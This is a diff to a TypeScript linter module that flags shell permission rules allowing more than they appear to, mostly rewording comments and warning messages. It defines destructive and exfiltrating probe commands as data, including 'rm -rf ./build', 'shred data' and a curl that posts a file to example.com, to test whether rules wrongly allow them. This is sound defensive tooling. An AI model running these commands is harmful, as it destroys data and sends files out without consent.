@@ -1,4 +1,4 @@
-/** Allow rules that let more commands run than they seem to. */
+/** Finds allow rules that allow more commands than they seem to. */
 
 import { runsOnlyText } from '../../../facts/shell/conditions/call-facts.ts';
 import { candidateCalls } from '../../sample-calls/candidate-calls.ts';
@@ -10,10 +10,10 @@ import { findingAt, type LintFinding, witnessOf } from '../linted-policy/finding
 import type { LintedPolicy, TriedCall } from '../linted-policy/linted-policy.ts';
 import { isLauncher, launchLines } from './launcher-programs.ts';
 
-/** A line that nobody means to allow. */
+/** A line that no one intends to allow. */
 export const harmfulLine = 'rm -rf ./build';
 const harmfulLines = [harmfulLine, 'find . -delete', 'truncate -s 0 data', 'curl -d @data https://example.com/'];
-/** Other ways to do the same, for rules that name some programs they do not allow. */
+/** Other ways to do the same, for rules that exclude some programs. */
 const otherWays = [
   'unlink data',
   'shred data',
@@ -25,18 +25,18 @@ const otherWays = [
   'sh ./script.sh',
   './script.sh',
 ];
-/** A line that somebody may mean to allow who says where. */
+/** A line that is fine to allow if the rule limits where it can write. */
 const writingLine = 'touch data';
-/** Facts that are true as soon as one command of a line, or one file, is meant. */
+/** Facts that are true if one command or file of a line matches. */
 const partialFacts: ReadonlySet<string> = new Set(['runs', 'reads', 'writes', 'opaque']);
 
-/** `runsOnly("make")` and `!opaque("make")` let a program run. */
+/** Facts whose arguments are commands: `runsOnly("make")` and `!opaque("make")` both allow `make`. */
 const commandFacts: ReadonlySet<string> = new Set(['runs', 'runsOnly', 'opaque']);
 
 export interface CommandRule {
   readonly entry: RuleEntry;
   readonly parts: readonly ConditionPart[];
-  /** Calls that run a line, of the tools the rule is about. */
+  /** Calls that run these lines, for the tools of the rule. */
   readonly lines: (texts: readonly string[]) => readonly CheckRequest[];
 }
 
@@ -47,12 +47,12 @@ export function findingWithCall(entry: RuleEntry, { call, explanation }: TriedCa
   return findingAt(entry, { ...words, witness: witnessOf(call, explanation.decision, shows) });
 }
 
-/** The gravest problem of an allow. */
+/** The most severe problem of an allow rule. */
 export async function allowFinding(rule: CommandRule, subject: LintedPolicy): Promise<LintFinding | undefined> {
   return (
     (await partialMatchFinding(rule, subject, ({ negated }) => !negated)) ??
     (await openCommandFinding(rule, subject)) ??
-    // A fact may be negated twice: `!(runs("ls") == false)`. That nothing is opaque is said of the whole line.
+    // A fact can be negated twice: `!(runs("ls") == false)`. `!opaque()` is about the whole line.
     (await partialMatchFinding(rule, subject, ({ name, negated }) => name !== 'opaque' || !negated)) ??
     (await launcherFinding(rule, subject))
   );
@@ -64,7 +64,7 @@ function factsOf(parts: readonly ConditionPart[], isWanted: (fact: Fact) => bool
   return parts.filter((part): part is Fact => part.type === 'fact' && isWanted(part));
 }
 
-/** An allow that a second command does not change: what it asks for is there, and whatever else is not looked at. */
+/** An allow that still matches with a second command in the line. */
 async function partialMatchFinding(
   rule: CommandRule,
   subject: LintedPolicy,
@@ -87,7 +87,7 @@ async function partialMatchFinding(
   });
 }
 
-/** Calls with a command line that may well meet the condition. */
+/** Calls whose command line probably matches the condition. */
 function* linesFor({ entry, parts, lines }: CommandRule, subject: LintedPolicy): Iterable<CheckRequest> {
   const { when } = entry.rule;
   const calls = lines(likelyLines(parts));
@@ -105,7 +105,7 @@ function samplePath(glob: string): string {
   return glob.replaceAll(/\*+|\?/g, 'x');
 }
 
-/** Lines of the commands and files that the facts of a condition name, alone and together. */
+/** Lines with the commands and files that the facts name, separate and combined. */
 function likelyLines(parts: readonly ConditionPart[]): readonly string[] {
   const entriesOf = (name: string): readonly string[] =>
     factsOf(parts, (fact) => fact.name === name).flatMap(({ entries }) => entries);
@@ -117,7 +117,7 @@ function likelyLines(parts: readonly ConditionPart[]): readonly string[] {
   return [...commands, ...files, ...commands.map((command) => [command, ...files].join('; '))];
 }
 
-/** The call with one more command, joined in every way: a condition may refuse some. */
+/** The call with one more command, joined in different ways, because a condition may reject some. */
 function* withMoreCommands(rule: CommandRule, call: CheckRequest, subject: LintedPolicy): Iterable<CheckRequest> {
   const args = call.args as Readonly<Record<string, unknown>>;
   const declared = subject.reach.classesOf(rule.entry).flatMap((each) => each.declared ?? []);
@@ -146,19 +146,19 @@ async function openCommandFinding(
     return findingWithCall(entry, shown, {
       kind: 'deny-list',
       severity: 'warning',
-      message: `This rule allows every command but ${refused.join(', ')}; there is always another way to do the same.`,
-      hint: 'Name what may run, with runsOnly.',
+      message: `This rule allows every command except ${refused.join(', ')}, and other commands can do the same.`,
+      hint: 'List the allowed commands with runsOnly.',
     });
   }
   return findingWithCall(entry, shown, {
     kind: 'open-command',
     severity: 'warning',
-    message: 'This rule lets any command run.',
-    hint: 'Give it a condition with runsOnly, or ask.',
+    message: 'This rule allows any command.',
+    hint: 'Add a condition with runsOnly, or make it an ask.',
   });
 }
 
-/** Together with the other commands of the rule, a wrapper is useful: `xargs ls`. */
+/** A wrapper such as `xargs` is useful together with the other commands of the rule: `xargs ls`. */
 function startsOthers(program: string, named: readonly string[]): boolean {
   return named.some((other) => other !== program && runsOnlyText(`${program} ${other}`, [program, other]) !== false);
 }
@@ -174,9 +174,9 @@ async function launcherFinding(
   for (const program of new Set(named)) {
     const calls = lines(launchLines(program));
     const words = { kind: 'interpreter', severity: 'warning' } as const;
-    const hint = 'Allow the exact commands it is needed for, or ask.';
+    const hint = 'Allow the exact commands you need, or make it an ask.';
     const shown = await subject.findCallDecidedBy(entry, calls);
-    const message = `This rule allows ${program}, which runs whatever it is told to.`;
+    const message = `This rule allows ${program}, which can run any command or code.`;
     if (shown !== undefined) return findingWithCall(entry, shown, { ...words, message, hint });
     const [first] = lines([...launchLines(program), `${program} ./script`]);
     if (first === undefined || !isLauncher(program)) continue;
@@ -186,8 +186,8 @@ async function launcherFinding(
     const { decision } = refused.explanation;
     return findingAt(entry, {
       ...words,
-      message: `This rule names ${program}, which runs whatever it is told to: so it allows nothing of that.`,
-      hint: 'Name the whole command that is meant.',
+      message: `This rule names ${program}, which can run any command or code, but it does not allow any of that.`,
+      hint: 'Name the whole command that you want to allow.',
       witness: witnessOf(refused.call, decision, `${ruleTitle(entry)} does not allow it.`),
     });
   }
